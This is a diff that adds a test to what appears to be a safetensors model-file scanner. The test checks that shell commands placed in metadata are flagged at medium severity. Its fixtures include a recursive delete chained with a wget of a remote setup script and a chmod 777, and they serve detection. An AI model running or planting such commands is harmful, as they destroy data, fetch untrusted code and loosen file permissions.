@@ -112,6 +112,22 @@ describe("safetensors", () => {
     expect(rec.reports.some((r) => r.evidence?.startsWith("prompt: Jinja") && sev(r) === "critical")).toBe(true);
   });
 
+  it("shell command lines in metadata are medium; links and ordinary text are not reported", async () => {
+    const metadata = {
+      format: "pt",
+      setup: "rm -rf /tmp/cache && wget https://x.example/setup.sh",
+      post: "chmod 777 /opt/model",
+      homepage: "https://huggingface.co/acme/model",
+      training: "Trained for 3 epochs; remove -r flags from the old script before release.",
+    };
+    const rec = await run("m.safetensors", safetensors(LAYER, { metadata }), "safetensors");
+    expect(rec.reports.map((r) => [sev(r), r.evidence]).sort()).toEqual([
+      ["medium", "post: chmod shell command"],
+      ["medium", "setup: download shell command"],
+      ["medium", "setup: recursive delete shell command"],
+    ]);
+  });
+
   it("corrupt headers are incomplete", async () => {
     expect((await run("m.safetensors", safetensors(LAYER, { rawHeader: "{not json" }), "safetensors")).incompletes).toHaveLength(1);
     expect((await run("m.safetensors", safetensors(LAYER, { rawHeader: "[1,2]" }), "safetensors")).incompletes).toHaveLength(1);
